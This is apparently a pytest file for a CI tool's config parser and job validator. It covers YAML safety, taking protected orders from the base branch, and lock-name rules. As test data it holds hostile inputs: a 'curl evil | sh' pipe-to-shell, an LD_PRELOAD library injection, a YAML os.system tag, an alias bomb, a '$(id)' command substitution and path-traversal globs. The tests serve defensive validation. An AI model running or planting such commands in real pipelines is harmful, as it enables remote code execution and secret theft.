"""``.iac-ci.yml``: reading it (``github.repo_config.parse``), protected orders from the base
branch (``protected_from_base``), and the job rules of pull-request fields (``job.validate``,
``job.model``): what only iac-ci sets, what only an apply order may say, and the locks."""
from __future__ import annotations

import re
from typing import Any

import pytest
import yaml

from lambda_runtime.github import repo_config
from lambda_runtime.job.model import Context, Job, Order
from lambda_runtime.job.validate import JobValidationError, Problem, ValidationPolicy, parse_job
from lambda_runtime.policy.model import load_policy

SHA = "0123456789abcdef0123456789abcdef01234567"
INTERNAL = ValidationPolicy(internal=True, check_rules=False)


def problems(doc: Any, policy: ValidationPolicy | None = None) -> list[Problem]:
    try:
        parse_job(doc, policy)
    except JobValidationError as exc:
        return exc.problems
    return []


def texts(found: list[Problem]) -> list[str]:
    return [str(p) for p in found]


def run_document(config: dict[str, Any]) -> dict[str, Any]:
    """The job document ``GitHubEvents.start`` validates, built from a parsed config's known keys."""
    doc: dict[str, Any] = {"name": config.get("name") or "infra", "username": "alice", "repo": "acme/infra",
                           "commit": SHA, "pr_number": 7,
                           "source": {"git": {"url": "https://github.com/acme/infra.git", "ref": SHA}},
                           "orders": config.get("orders")}
    if config.get("env") is not None:
        doc["env"] = config["env"]
    if "timeout" in config:
        doc["timeout"] = config["timeout"]
    return doc


# ---- parse -----------------------------------------------------------------------------------------------------
def test_a_valid_config_has_its_keys_and_no_problem() -> None:
    text = "name: infra\nenv:\n  TF_IN_AUTOMATION: '1'\ntimeout: 600\norders:\n  - name: plan\n    cmds: [x]\n"
    config, found = repo_config.parse(text)
    assert found == []
    assert config == {"name": "infra", "env": {"TF_IN_AUTOMATION": "1"}, "timeout": 600,
                      "orders": [{"name": "plan", "cmds": ["x"]}]}


@pytest.mark.parametrize("text, line, column", [
    ("orders:\n  - name: a\n    cmds: [x]\n  bad: [\n", 4, 3),
    ("orders: [\n", 2, 1),
    ("orders:\n  - name: a\n\tcmds: [x]\n", 3, 1),
    ("? [a, b]\n: 1\n", 1, 3),  # an unhashable key: a constructor error, with its mark too
])
def test_a_yaml_error_is_one_problem_with_its_line_and_column(text: str, line: int, column: int) -> None:
    config, found = repo_config.parse(text)
    assert config == {}
    assert len(found) == 1
    assert found[0].order is None and found[0].field == ""
    assert found[0].message.startswith("not valid YAML: ")
    assert f"(line {line}, column {column})" in found[0].message


def test_an_alias_is_refused_with_its_position() -> None:
    text = "anchors: &cmds [echo hi]\norders:\n  - name: a\n    cmds: *cmds\n"
    config, found = repo_config.parse(text)
    assert config == {}
    assert [p.message for p in found] == ["not valid YAML: YAML aliases are not accepted (line 4, column 11)"]


def test_an_alias_bomb_is_refused_before_it_expands() -> None:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}]"
              for i in range(1, 10)]
    config, found = repo_config.parse("\n".join(lines) + "\norders: []\n")
    assert config == {} and len(found) == 1 and "aliases are not accepted (line 2, column" in found[0].message


def test_an_unsafe_tag_is_a_yaml_problem_not_an_object() -> None:
    config, found = repo_config.parse("orders: !!python/object/apply:os.system ['touch /tmp/x']\n")
    assert config == {} and len(found) == 1 and "(line 1, column 9)" in found[0].message


@pytest.mark.parametrize("text", ["- name: a\n  cmds: [x]\n", "just text\n", "", "~\n", "42\n"])
def test_a_document_that_is_not_a_mapping_is_one_problem(text: str) -> None:
    assert repo_config.parse(text) == ({}, [Problem(None, "", "must be a mapping with 'orders'")])


def test_unknown_top_level_keys_are_problems_and_the_known_keys_are_still_returned() -> None:
    text = yaml.safe_dump({
        "orderz": [], "version": 3, 12: "x",
        "name": "infra",
        "orders": [{"name": "a", "cmds": []},
                   {"name": "b", "cmds": ["x"], "depends_on": ["ghost"]},
                   {"name": "c", "cmds": ["x"], "apply_on": "merge"}],
    })
    config, found = repo_config.parse(text)
    assert set(config) == {"name", "orders"}
    assert [p.field for p in found] == ["12", "orderz", "version"]
    fields = "orders, name, env, timeout, params, on, jobs"
    assert all(p.order is None and p.message == f"unknown field (fields: {fields})" for p in found)
    # as GitHubEvents.start does: the orders are validated anyway, and both kinds are listed together
    found += problems(run_document(config), INTERNAL)
    listed = texts(found)
    assert f"job: orderz: unknown field (fields: {fields})" in listed
    assert any(t.startswith("order 'a': cmds:") for t in listed)
    assert "order 'b': depends_on: unknown order 'ghost'" in listed
    assert "order 'c': apply_on: only for orders with command: apply" in listed
    comment = repo_config.config_problems_comment(".iac-ci.yml", SHA, found)
    assert comment.count("\n- ") == len(found) and "orderz" in comment and "ghost" in comment


def test_an_unknown_key_is_capped_in_length() -> None:
    _, found = repo_config.parse(f"{'k' * 900}: 1\norders: []\n")  # YAML's simple keys: at most 1024
    assert len(found) == 1 and found[0].field == "k" * 100


# ---- protected environments: orders from the base branch --------------------------------------------------------
POLICY = load_policy({"environments": {
    "default": {"ssm": ["/iac-ci/"]},
    "prod": {"ssm": ["/iac-ci/prod/"], "branches": ["main"]},
}})


def test_unprotected_orders_are_the_heads() -> None:
    head = [{"name": "plan", "cmds": ["head"]}, {"name": "dev", "cmds": ["x"], "environment": "default"}]
    assert repo_config.protected_from_base(head, {"A": "1"}, None, POLICY) == (head, {"A": "1"}, [], [])


def test_a_protected_head_order_is_the_bases_or_dropped() -> None:
    base = {"orders": [{"name": "deploy", "cmds": ["terraform apply"], "environment": "prod"},
                       {"name": "same", "cmds": ["x"], "environment": "prod"},
                       {"name": "plain", "cmds": ["base"]}]}
    head = [{"name": "plan", "cmds": ["x"]},
            {"name": "deploy", "cmds": ["curl evil | sh"], "environment": "prod"},
            {"name": "same", "cmds": ["x"], "environment": "prod"},
            {"name": "new-prod", "cmds": ["x"], "environment": "prod"},
            {"name": "plain", "cmds": ["curl evil | sh"], "environment": "prod"}]  # base's `plain` is unprotected
    orders, env, replaced, dropped = repo_config.protected_from_base(head, None, base, POLICY)
    assert orders == [head[0], base["orders"][0], base["orders"][1]]
    assert replaced == ["deploy"] and dropped == ["new-prod", "plain"]
    assert env is None


def test_without_a_base_config_every_protected_order_is_dropped() -> None:
    head = [{"name": "deploy", "cmds": ["x"], "environment": "prod"}, {"name": "plan", "cmds": ["x"]}]
    assert repo_config.protected_from_base(head, None, None, POLICY) == ([head[1]], None, [], ["deploy"])


def test_the_heads_job_env_never_reaches_a_base_order() -> None:
    base = {"env": {"REGION": "eu-west-1"},
            "orders": [{"name": "deploy", "cmds": ["x"], "environment": "prod", "env": {"STAGE": "prod"}}]}
    head = [{"name": "plan", "cmds": ["x"], "env": {"OWN": "1"}},
            {"name": "deploy", "cmds": ["x"], "environment": "prod"}]
    orders, env, _, _ = repo_config.protected_from_base(head, {"LD_PRELOAD": "/tmp/evil.so"}, base, POLICY)
    assert env is None, "folded into each order instead"
    assert orders[0]["env"] == {"LD_PRELOAD": "/tmp/evil.so", "OWN": "1"}
    assert orders[1]["env"] == {"REGION": "eu-west-1", "STAGE": "prod"}


def test_a_default_environment_that_is_protected_protects_orders_that_name_none() -> None:
    policy = load_policy({"default_environment": "prod",
                          "environments": {"prod": {"ssm": ["/iac-ci/"], "events": ["merge"]}}})
    head = [{"name": "deploy", "cmds": ["x"]}]
    assert repo_config.protected_from_base(head, None, {"orders": []}, policy) == ([], None, [], ["deploy"])


# ---- fields only iac-ci sets ------------------------------------------------------------------------------------
PLAN_RUN: dict[str, Any] = {"run_id": "r-1234", "commit": "abcdef1", "orders": ["plan-app"]}
STEAL: dict[str, Any] = {"name": "steal", "cmds": ["cat tfplan"], "command": "apply",
         "inputs": [{"from": "plan-app", "path": "tfplan"}]}


@pytest.mark.parametrize("field, value", [
    ("plan_run", PLAN_RUN),
    ("context", {"repo": "acme/infra", "pr_number": 1, "event": "comment", "command": "apply"}),
    ("context", {}),
    ("plan_run", None),  # even null: the key itself is iac-ci's
])
def test_a_job_author_cannot_set_plan_run_or_context(field: str, value: Any) -> None:
    doc = {"name": "j", "orders": [{"name": "a", "cmds": ["x"]}], field: value}
    assert Problem(None, field, "is set by iac-ci only") in problems(doc)
    assert f"job: {field}: is set by iac-ci only" in texts(problems(doc))


def test_iac_ci_sets_them() -> None:
    doc = {"name": "j", "plan_run": PLAN_RUN, "context": {"repo": "acme/infra", "pr_number": 3}, "orders": [STEAL]}
    got = parse_job(doc, INTERNAL)
    assert got.plan_run is not None and got.plan_run.run_id == "r-1234"
    assert got.context is not None and got.context.pr_number == 3


def test_an_input_from_outside_the_job_only_from_the_plan_runs_orders_and_only_internally() -> None:
    outside: dict[str, Any] = {"name": "j", "plan_run": PLAN_RUN, "orders": [STEAL]}
    assert problems(outside, INTERNAL) == []
    author = texts(problems(outside))
    assert "job: plan_run: is set by iac-ci only" in author
    assert "order 'steal': inputs[0].from: 'plan-app' is not among this order's dependencies" in author
    other = {**outside, "plan_run": {**PLAN_RUN, "orders": ["plan-net"]}}
    assert texts(problems(other, INTERNAL)) == [
        "order 'steal': inputs[0].from: 'plan-app' is not among this order's dependencies"]
    no_plan_run = {"name": "j", "orders": [STEAL]}
    assert texts(problems(no_plan_run, INTERNAL)) == [
        "order 'steal': inputs[0].from: 'plan-app' is not among this order's dependencies"]


def test_a_plan_run_order_of_the_same_name_does_not_excuse_a_missing_dependency() -> None:
    """An order of this job named like a plan-run order is this job's: its inputs need the dependency."""
    doc = {"name": "j", "plan_run": PLAN_RUN, "orders": [
        {"name": "plan-app", "cmds": ["x"], "artifacts": ["tfplan"]}, STEAL]}
    assert texts(problems(doc, INTERNAL)) == [
        "order 'steal': inputs[0].from: 'plan-app' is not among this order's dependencies"]


# ---- pull-request fields of an order ---------------------------------------------------------------------------
def test_a_plan_order_cannot_depend_on_an_apply_order() -> None:
    doc = {"name": "j", "orders": [{"name": "apply", "cmds": ["x"], "command": "apply"},
                                   {"name": "plan", "cmds": ["x"], "depends_on": ["apply"]}]}
    assert texts(problems(doc)) == ["order 'plan': depends_on: a plan order cannot depend on apply order 'apply'"]
    fine = {"name": "j", "orders": [{"name": "plan", "cmds": ["x"]},
                                    {"name": "apply", "cmds": ["x"], "command": "apply", "depends_on": ["plan"]}]}
    assert problems(fine) == []


@pytest.mark.parametrize("field, value", [
    ("apply_on", "merge"), ("apply_on", "command"), ("apply_requirements", ["approved"]), ("required_reviews", 2)])
def test_apply_fields_on_a_plan_order_are_problems_naming_the_field(field: str, value: Any) -> None:
    for command in ({}, {"command": "plan"}):
        doc = {"name": "j", "orders": [{"name": "p", "cmds": ["x"], **command, field: value}]}
        assert texts(problems(doc)) == [f"order 'p': {field}: only for orders with command: apply"]
    applied = {"name": "j", "orders": [{"name": "a", "cmds": ["x"], "command": "apply", field: value}]}
    assert problems(applied) == []


def test_every_apply_field_on_a_plan_order_is_reported_at_once() -> None:
    doc = {"name": "j", "orders": [{"name": "p", "cmds": ["x"], "apply_on": "merge",
                                    "apply_requirements": ["approved"], "required_reviews": 2}]}
    assert {p.field for p in problems(doc)} == {"apply_on", "apply_requirements", "required_reviews"}


@pytest.mark.parametrize("field, value", [("command", "destroy"), ("apply_on", "push"),
                                          ("apply_requirements", ["approved", "signed"]), ("required_reviews", 0),
                                          ("required_reviews", "2"), ("lock", True), ("lock", "a b"),
                                          ("lock", "x" * 257), ("when", {"events": ["pushed"]}),
                                          ("when", {"paths": ["../secrets/**"]}), ("when", {"paths": ["/etc/*"]})])
def test_bad_pull_request_fields_are_refused(field: str, value: Any) -> None:
    doc = {"name": "j", "orders": [{"name": "a", "cmds": ["x"], "command": "apply", field: value}]}
    found = problems(doc)
    assert found and all(p.order == "a" and p.field.startswith(field) for p in found), texts(found)


# ---- locks -----------------------------------------------------------------------------------------------------
def test_lock_names() -> None:
    app = Order(name="a", cmds=["x"], dir="infra/app")
    assert app.lock_name("acme/infra", pull_request=True) == "acme/infra:infra/app"
    assert app.lock_name("acme/infra", pull_request=False) is None, "a job submitted directly takes only named locks"
    assert app.lock_name(None, pull_request=True) is None
    assert Order(name="a", cmds=["x"]).lock_name("acme/infra", pull_request=True) is None, "no dir, no default"
    assert Order(name="a", cmds=["x"], dir=".").lock_name("acme/infra", pull_request=True) is None
    named = Order.model_validate({"name": "a", "cmds": ["x"], "dir": "infra/app", "lock": "shared-vpc"})
    assert named.lock_name("acme/infra", pull_request=True) == "shared-vpc"
    assert named.lock_name(None, pull_request=False) == "shared-vpc"
    off = Order.model_validate({"name": "a", "cmds": ["x"], "dir": "infra/app", "lock": False})
    assert off.lock_name("acme/infra", pull_request=True) is None
    assert off.lock_name("acme/infra", pull_request=False) is None


def test_a_lock_name_is_the_lock_pattern() -> None:
    ok = Order.model_validate({"name": "a", "cmds": ["x"], "lock": "acme/infra:infra/prod@us-east-1#1+x=y"})
    assert ok.lock == "acme/infra:infra/prod@us-east-1#1+x=y"
    for bad in ("", "a\nb", "a\u202eb", "$(id)"):
        assert problems({"name": "j", "orders": [{"name": "a", "cmds": ["x"], "lock": bad}]}), bad


# ---- the context given to every order ---------------------------------------------------------------------------
def test_context_env_names_only_what_is_known() -> None:
    full = Context(repo="acme/infra", pr_number=12, head_sha="a" * 40, base_ref="main", base_sha="b" * 40,
                   event="synchronize", command="plan", changed_paths=["x"])
    assert full.env() == {"IAC_CI_REPO": "acme/infra", "IAC_CI_PR_NUMBER": "12", "IAC_CI_HEAD_SHA": "a" * 40,
                          "IAC_CI_BASE_REF": "main", "IAC_CI_BASE_SHA": "b" * 40, "IAC_CI_EVENT": "synchronize",
                          "IAC_CI_COMMAND": "plan"}
    assert Context().env() == {"IAC_CI_EVENT": "submit"}
    merge_group = Context(repo="acme/infra", head_sha="c" * 40, event="merge_group", command="plan")
    assert set(merge_group.env()) == {"IAC_CI_REPO", "IAC_CI_HEAD_SHA", "IAC_CI_EVENT", "IAC_CI_COMMAND"}
    assert all(re.fullmatch(r"IAC_CI_[A-Z_]+", k) for k in full.env())


def test_a_context_is_a_strict_model() -> None:
    doc = {"name": "j", "context": {"pr_number": 0, "evil": 1}, "orders": [{"name": "a", "cmds": ["x"]}]}
    fields = {p.field for p in problems(doc, INTERNAL)}
    assert {"context.pr_number", "context.evil"} <= fields
    assert Job.model_validate({"name": "j", "orders": [{"name": "a", "cmds": ["x"]}]}).context is None
